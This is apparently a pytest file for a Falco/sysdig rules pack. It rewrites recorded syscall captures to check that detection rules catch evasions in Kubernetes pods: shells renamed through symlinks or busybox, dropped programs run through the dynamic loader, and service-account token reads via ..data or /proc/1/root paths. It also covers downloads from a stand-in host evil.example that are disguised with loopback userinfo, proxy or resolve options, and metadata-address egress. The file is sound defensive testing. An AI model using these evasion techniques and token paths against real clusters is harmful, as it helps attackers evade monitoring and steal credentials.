"""Evasions and false positives found by the audit, each tested on a recorded action rewritten the way
the attacker (or the cluster) changes it: a shell under another name, the loader running a dropped
tool, the token read through ..data or /proc/1/root, versioned pip names and pip flags, user info in
a loopback URL, clustered interpreter flags, DNS to a node-local cache and the metadata address.
The real libsinsp (sysdig 0.29.3) reads each derived capture and evaluates the pack's expanded
conditions, with the captures' scope override.

sysdig 0.29.3 builds proc.exepath from the path given to execve; Falco 0.40 resolves it (symlinks
followed). Where that matters, the rewritten execve gives the path Falco would report.
"""

from __future__ import annotations

from collections.abc import Callable, Mapping
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from responder.rulespack.evttypes import event_types
from responder.rulespack.expand import load_paths
from responder.rulespack.sysdig import Sysdig
from responder.rulespack.sysdig_compat import to_sysdig

from . import scapedit as se
from .conftest import CAPTURES, PACK, SCOPE_OVERRIDE

pytestmark = pytest.mark.timeout(120)

SHELL = "Shell in serving pod"
REVERSE_SHELL = "Reverse shell or interpreter one-liner in serving pod"
EGRESS = "Anomalous egress from serving pod"
DOWNLOAD = "Runtime download or package install in serving pod"
DRIFT = "Drift: new executable in serving pod"
CREDENTIALS = "Credential access in serving pod"
FIELDS = ["evt.num", "evt.type", "proc.name", "proc.exe", "proc.exepath", "proc.args", "fd.name", "fd.sip"]
EXECVE = "evt.type = execve and evt.dir = <"

Replacements = Mapping[int, list[bytes]]


def _events(capture: str) -> list[se.Event]:
    return se.read_events(CAPTURES / capture)


@dataclass(frozen=True)
class Recorded:
    """A program start in a capture: the first with ``marker`` among its arguments (and that name)."""

    capture: str
    marker: str
    name: str | None = None

    def exec_events(self) -> tuple[se.Event, se.Event]:
        events = _events(self.capture)
        exit_ = next(
            e
            for e in events
            if e.type == se.EXECVE_EXIT
            and self.marker in e.text(se.EXECVE_ARGS).split(" ")
            and self.name in (None, e.text(se.EXECVE_COMM))
        )
        return se.find_exec(events, exit_.text(se.EXECVE_ARGS), name=exit_.text(se.EXECVE_COMM))

    @property
    def thread(self) -> str:
        """A filter for the events of its thread."""
        return f"thread.tid = {self.exec_events()[1].tid}"

    def exec(
        self, *, path: str | None = None, argv: list[str] | None = None, name: str | None = None
    ) -> Replacements:
        """Started otherwise: the path given to execve (what sysdig 0.29 reports as proc.exepath),
        argv (argv[0] is proc.exe) and the process name."""
        enter, exit_ = self.exec_events()
        replacements: dict[int, list[bytes]] = {}
        if path is not None:
            replacements[enter.index] = se.replaced(enter, {se.EXECVE_FILENAME: se.strings(path)})
        changes: dict[int, bytes] = {}
        if argv is not None:
            changes[se.EXECVE_EXE] = se.strings(argv[0])
            changes[se.EXECVE_ARGS] = se.strings(*argv[1:])
        if name is not None:
            changes[se.EXECVE_COMM] = se.strings(name)
        replacements[exit_.index] = se.replaced(exit_, changes)
        return replacements


SH_A1 = Recorded("sg-a-shell.scap", "sgcap-a1")  # sh -c echo sgcap-a1
DROPPED_G2 = Recorded("sg-g-drift.scap", "sgcap-g2")  # /tmp/sgcap-g2-dropped sgcap-g2
CURL_F2 = Recorded("sg-f-tools.scap", "--version", "curl")  # curl --version
PYTHON_B1 = Recorded("sg-b-revshell.scap", "sgcap-b1")  # python3 -c 'import pty,socket...'
CAT_H1 = Recorded("sg-h-creds.scap", "/var/run/secrets/kubernetes.io/serviceaccount/token")
PYTHON_E1 = Recorded("sg-e-egress.scap", "sgcap-e1")  # TCP connect 100.64.10.2:443
PYTHON_E2 = Recorded("sg-e-egress.scap", "sgcap-e2")  # UDP sendto 100.64.10.2:53


class Derived:
    """A capture rewritten from a recorded one, read by sysdig."""

    def __init__(self, sysdig: Sysdig, conditions: dict[str, str], path: Path) -> None:
        self.sysdig = sysdig
        self.conditions = conditions
        self.path = path

    def events(self, condition: str) -> list[dict[str, Any]]:
        return self.sysdig.read_capture(str(self.path), condition, FIELDS)

    def fired(self, rule: str, condition: str) -> list[dict[str, Any]]:
        """The events, among those of ``condition``, on which ``rule`` fires."""
        return self.events(f"({condition}) and ({self.conditions[rule]})")

    def rules_fired(self, condition: str) -> set[str]:
        return {rule for rule in self.conditions if self.fired(rule, condition)}


Derive = Callable[[str, Replacements], Derived]


@pytest.fixture(scope="module")
def conditions() -> dict[str, str]:
    ruleset = load_paths([str(PACK), str(SCOPE_OVERRIDE)])
    return {name: to_sysdig(rule.ast).text for name, rule in ruleset.expanded.items()}


@pytest.fixture
def derive(sysdig: Sysdig, conditions: dict[str, str], tmp_path: Path) -> Derive:
    made = 0

    def make(capture: str, replacements: Replacements) -> Derived:
        nonlocal made
        made += 1
        path = tmp_path / f"{made}-{capture}"
        se.rewrite(CAPTURES / capture, path, replacements)
        return Derived(sysdig, conditions, path)

    return make


def test_rewriting_an_event_as_recorded_gives_the_recording_back(tmp_path: Path) -> None:
    # Every block is re-encoded exactly: a derived capture differs only where an event was changed.
    for capture in ("sg-a-shell.scap", "sg-e-egress.scap"):
        events = _events(capture)
        copy = tmp_path / capture
        se.rewrite(CAPTURES / capture, copy, {e.index: list(e.params) for e in events[:: len(events) // 50]})
        assert copy.read_bytes() == (CAPTURES / capture).read_bytes()


# -- 1. A shell under another name; the dynamic loader running a program ---------------------------


@pytest.mark.parametrize(
    ("path", "argv", "name"),
    [
        # ln -s /bin/sh /tmp/x; /tmp/x -c id: Falco resolves the link, the process is named x.
        ("/usr/bin/dash", ["/tmp/x", "-c", "id"], "x"),
        ("/usr/bin/bash", ["/dev/shm/.k", "-c", "id"], ".k"),
        # busybox under another name picks its applet from argv[0].
        ("/usr/bin/busybox", ["sh", "-c", "id"], "x"),
        ("/usr/bin/busybox", ["/bin/sh", "-c", "id"], "x"),
    ],
)
def test_a_shell_under_another_name_is_a_shell(derive: Derive, path: str, argv: list[str], name: str) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.name"], event["proc.exepath"]) == (name, path)  # no shell's name
    assert [e["evt.num"] for e in derived.fired(SHELL, SH_A1.thread)] == [event["evt.num"]]


def test_busybox_applets_that_are_not_shells_stay_quiet(derive: Derive) -> None:
    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/busybox", argv=["ls", "-l"], name="x"))
    assert derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert derived.fired(SHELL, SH_A1.thread) == []


def test_capture_fidelity_the_unresolved_link_is_drift(derive: Derive) -> None:
    """What sysdig 0.29.3 itself reports for the linked shell is the link's path, which the drift rule
    catches (/tmp); Falco 0.40 reports the shell's path and the shell rule catches it (above)."""
    derived = derive(SH_A1.capture, SH_A1.exec(path="/tmp/x", argv=["/tmp/x", "-c", "id"], name="x"))
    assert derived.rules_fired(SH_A1.thread) == {DRIFT}


LD_LINUX = "/lib64/ld-linux-x86-64.so.2"


@pytest.mark.parametrize(
    ("path", "name"),
    [
        (LD_LINUX, "ld-linux-x86-64"),  # as given (what sysdig 0.29 reports)
        ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "ld-linux-x86-64"),  # resolved (Falco)
        ("/lib/x86_64-linux-gnu/ld-2.31.so", "ld-linux-x86-64"),  # glibc before 2.34, resolved
        ("/lib/ld-musl-x86_64.so.1", "ld-musl-x86_64."),  # musl (the name is cut at 15 characters)
        ("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2", "x"),  # a link to the loader, resolved
        ("/usr/bin/ld.so", "ld.so"),  # Debian's ld.so link, as given
    ],
)
def test_the_dynamic_loader_running_a_program_is_drift(derive: Derive, path: str, name: str) -> None:
    # `ld-linux-x86-64.so.2 /tmp/sgcap-g2-dropped`: the executable is the loader (in the image, not
    # in /tmp); the dropped file is only its argument.
    argv = [LD_LINUX, "/tmp/sgcap-g2-dropped", "sgcap-g2"]
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
    assert (event["proc.exepath"], event["proc.name"]) == (path, name)
    assert [e["evt.num"] for e in derived.fired(DRIFT, DROPPED_G2.thread)] == [event["evt.num"]]


# (Not ldd: glibc's ldd is a bash script, which runs the loader itself: rules 3 and 7 both fire.)
@pytest.mark.parametrize(("path", "name"), [("/usr/bin/ld", "ld"), ("/usr/bin/ld.bfd", "ld.bfd")])
def test_the_linker_is_not_the_loader(derive: Derive, path: str, name: str) -> None:
    derived = derive(DROPPED_G2.capture, DROPPED_G2.exec(path=path, argv=[path, "--version"], name=name))
    assert derived.events(f"{EXECVE} and {DROPPED_G2.thread}")
    assert derived.fired(DRIFT, DROPPED_G2.thread) == []


# -- 2. The service-account token under its real paths ---------------------------------------------

SA = "/var/run/secrets/kubernetes.io/serviceaccount"


def _open(path: str) -> Replacements:
    """cat opens ``path`` instead of the token."""
    _, cat = CAT_H1.exec_events()
    opens = [
        e
        for e in se.find_events(_events(CAT_H1.capture), (se.OPENAT_ENTER, se.OPENAT_EXIT), cat.tid)
        if "serviceaccount/token"
        in e.text(se.OPENAT_ENTER_NAME if e.type == se.OPENAT_ENTER else se.OPENAT_EXIT_NAME)
    ]
    enter, exit_ = opens
    return {
        enter.index: se.replaced(enter, {se.OPENAT_ENTER_NAME: se.strings(path)}),
        exit_.index: se.replaced(exit_, {se.OPENAT_EXIT_NAME: se.strings(path)}),
    }


@pytest.mark.parametrize(
    "path",
    [
        f"{SA}/..data/token",
        f"{SA}/..2026_12_01_10_00_00.123456789/token",
        "/run/secrets/kubernetes.io/serviceaccount/..data/token",
        f"/proc/1/root{SA}/token",
        f"/proc/self/root{SA}/..data/token",
        "/proc/1/cwd/run/secrets/kubernetes.io/serviceaccount/token",
        "/proc/self/cwd/token",  # after changing into the token directory
        "/proc/self/fd/3/token",  # through a descriptor of the directory
        "/var/run/secrets/eks.amazonaws.com/serviceaccount/..data/token",
        "/run/secrets/azure/tokens/azure-identity-token",
        "/var/run/secrets/tokens/vault-token",
    ],
)
def test_the_token_is_found_under_every_path_that_opens_it(derive: Derive, path: str) -> None:
    derived = derive(CAT_H1.capture, _open(path))
    assert [e["fd.name"] for e in derived.fired(CREDENTIALS, CAT_H1.thread)] == [path]


@pytest.mark.parametrize(
    "path",
    [
        f"{SA}/ca.crt",
        f"{SA}/..data/ca.crt",
        f"{SA}/namespace",
        f"/proc/1/root{SA}/ca.crt",
        "/var/run/secrets/kubernetes.io/serviceaccount-reader/token",  # another directory
    ],
)
def test_the_public_files_beside_the_token_stay_quiet(derive: Derive, path: str) -> None:
    derived = derive(CAT_H1.capture, _open(path))
    assert [e["fd.name"] for e in derived.events(f"evt.type = openat and evt.dir = < and {CAT_H1.thread}")][
        -1
    ] == path
    assert derived.fired(CREDENTIALS, CAT_H1.thread) == []


# -- 3. Downloads and one-liners ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "argv",
    [
        ["busybox", "wget", "http://evil.example/x"],
        ["busybox", "tftp", "-g", "-r", "x", "evil.example"],
        ["pip3.11", "install", "x"],
        ["pip-3.11", "install", "x"],
        ["python3", "-mpip", "install", "x"],
        ["python3", "-I", "-m", "pip", "install", "x"],
        ["python3.11", "-Im", "pip", "install", "x"],
        ["python3", "-X", "utf8", "-m", "pip", "install", "x"],
        ["curl", "-sO", "http://127.0.0.1:80@evil.example/x"],
        ["curl", "http://localhost:8080@evil.example/x"],
        ["wget", "http://[::1]:80@evil.example/x"],
        # A loopback URL beside one that goes elsewhere, or through a proxy or resolve option.
        ["curl", "http://evil.example/x?u=://localhost/"],
        ["curl", "http://127.0.0.1:8080/health", "http://evil.example/x"],
        ["curl", "-x", "http://evil.example:3128", "http://127.0.0.1/x"],
        ["curl", "--resolve", "localhost:80:203.0.113.9", "http://localhost/x"],
        ["python3", "-m", "pip.__main__", "install", "x"],
        ["python3", "-m", "pip"],
    ],
    ids=" ".join,
)
def test_download_evasions_are_downloads(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(argv=argv, name=argv[0]))
    [event] = derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))


@pytest.mark.parametrize(
    "argv",
    [
        ["curl", "-s", "http://127.0.0.1:8088/predict?x"],
        ["wget", "-q", "-O-", "http://localhost:8080/health"],
        ["busybox", "wget", "-q", "-O-", "http://127.0.0.1:8080/health"],
        ["curl", "-sf", "http://[::1]:8000/v2/health/ready"],
        ["python3", "-u", "-m", "http.server", "8000"],
        ["python3", "-m", "pipelines.serve"],
        ["python3", "-u", "-m", "pipeline_server", "--port", "8000"],
        ["busybox", "sha256sum", "/models/model.pt"],
        ["pipewire"],
    ],
    ids=" ".join,
)
def test_local_requests_and_other_programs_are_not_downloads(derive: Derive, argv: list[str]) -> None:
    derived = derive(CURL_F2.capture, CURL_F2.exec(argv=argv, name=argv[0]))
    [event] = derived.events(f"{EXECVE} and {CURL_F2.thread}")
    assert (event["proc.name"], event["proc.args"]) == (argv[0], " ".join(argv[1:]))
    assert derived.fired(DOWNLOAD, f"{EXECVE} and {CURL_F2.thread}") == []


@pytest.mark.parametrize("flags", [["-Ic"], ["-I", "-c"], ["-Esc"], ["-u", "-c"]], ids=" ".join)
def test_clustered_interpreter_flags_are_a_one_liner(derive: Derive, flags: list[str]) -> None:
    _, python = PYTHON_B1.exec_events()
    code = python.params[se.EXECVE_ARGS].split(b"\0")[1].decode()
    derived = derive(PYTHON_B1.capture, PYTHON_B1.exec(argv=["python3", *flags, code]))
    # The execve itself, not only the socket duplicated onto stdio afterwards.
    [event] = derived.fired(REVERSE_SHELL, f"{EXECVE} and {PYTHON_B1.thread}")
    assert event["proc.args"] == " ".join([*flags, code])


# -- 4. Egress: node-local DNS, the metadata address, 0.0.0.0 ---------------------------------------


def _udp_to(address: str, port: int) -> Replacements:
    """The recorded UDP datagram (e2) sent to another address."""
    _, python = PYTHON_E2.exec_events()
    [sendto] = se.find_events(_events(PYTHON_E2.capture), (se.SENDTO_ENTER,), python.tid)
    destination = se.ipv4_tuple(("0.0.0.0", 0), (address, port))
    return {sendto.index: se.replaced(sendto, {se.SENDTO_ENTER_TUPLE: destination})}


def _tcp_to(address: str, port: int) -> Replacements:
    """The recorded TCP connect (e1) to another address."""
    _, python = PYTHON_E1.exec_events()
    enter, exit_ = [
        e
        for e in se.find_events(_events(PYTHON_E1.capture), (se.CONNECT_ENTER, se.CONNECT_EXIT), python.tid)
        if e.params[1][:1] == b"\x02"  # AF_INET (not the libc's unix-socket lookups)
    ]
    local = exit_.params[se.CONNECT_EXIT_TUPLE][1:7]  # the recorded local address and port
    return {
        enter.index: se.replaced(enter, {se.CONNECT_ENTER_ADDR: se.ipv4_sockaddr(address, port)}),
        exit_.index: se.replaced(
            exit_, {se.CONNECT_EXIT_TUPLE: b"\x02" + local + se.ipv4_sockaddr(address, port)[1:]}
        ),
    }


@pytest.mark.parametrize(
    ("proto", "address", "port", "alerts"),
    [
        ("udp", "169.254.20.10", 53, False),  # NodeLocal DNSCache
        ("udp", "169.254.25.10", 53, False),  # NodeLocal DNSCache (kubespray's address)
        ("tcp", "169.254.20.10", 53, False),  # DNS over TCP to it
        ("udp", "169.254.169.253", 53, False),  # the AWS VPC resolver
        ("udp", "169.254.169.254", 53, True),  # the metadata address is never DNS
        ("tcp", "169.254.169.254", 80, True),  # cloud metadata
        ("udp", "169.254.20.10", 5353, True),  # link-local, not DNS
        ("tcp", "169.254.20.10", 443, True),
        ("tcp", "0.0.0.0", 8080, False),  # this host
        ("udp", "0.0.0.0", 53, False),
        ("udp", "100.64.10.2", 53, True),  # as recorded (e2)
    ],
)
def test_egress_allows_link_local_only_for_dns(
    derive: Derive, proto: str, address: str, port: int, alerts: bool
) -> None:
    recorded, replacements = (PYTHON_E2, _udp_to) if proto == "udp" else (PYTHON_E1, _tcp_to)
    derived = derive(recorded.capture, replacements(address, port))
    sent = derived.events(f"evt.type in (sendto, connect) and evt.dir = < and {recorded.thread}")
    assert {e["fd.sip"] for e in sent if e["fd.sip"] is not None} == {address}
    fired = derived.fired(EGRESS, recorded.thread)
    assert bool(fired) is alerts, fired


def test_unconnected_udp_includes_sendmmsg() -> None:
    # No capture holds a sendmmsg (and sysdig 0.29's sendmmsg events carry no address): the rule is
    # checked to select the event type; `rules check` compiles it.
    ruleset = load_paths([str(PACK)])
    assert {"connect", "sendto", "sendmsg", "sendmmsg"} <= event_types(ruleset.expanded[EGRESS].ast).names


# -- System tools that are shell scripts ----------------------------------------------------------


@pytest.mark.parametrize(
    ("script", "name", "fires"),
    [
        # Ubuntu's ldconfig wraps ldconfig.real; Python's ctypes.util.find_library runs `ldconfig -p`.
        ("/sbin/ldconfig", "ldconfig", False),
        ("/usr/sbin/ldconfig", "ldconfig", False),
        ("/usr/bin/which", "which", False),
        # The same names elsewhere (written at run time) are shells like any script.
        ("/tmp/ldconfig", "ldconfig", True),
        ("/dev/shm/which", "which", True),
        ("/tmp/a.sh", "a.sh", True),
    ],
)
def test_a_shell_script_is_a_shell_unless_it_is_a_system_tool_of_the_image(
    derive: Derive, script: str, name: str, fires: bool
) -> None:
    """Run as a script, the kernel starts the interpreter with the script's path as its first
    argument and names the process after the script; Falco resolves the executable to the shell."""
    argv = ["/bin/sh", script, "-p"]
    derived = derive(SH_A1.capture, SH_A1.exec(path="/usr/bin/dash", argv=argv, name=name))
    [event] = derived.events(f"{EXECVE} and {SH_A1.thread}")
    assert (event["proc.name"], event["proc.args"]) == (name, f"{script} -p")
    assert bool(derived.fired(SHELL, SH_A1.thread)) is fires
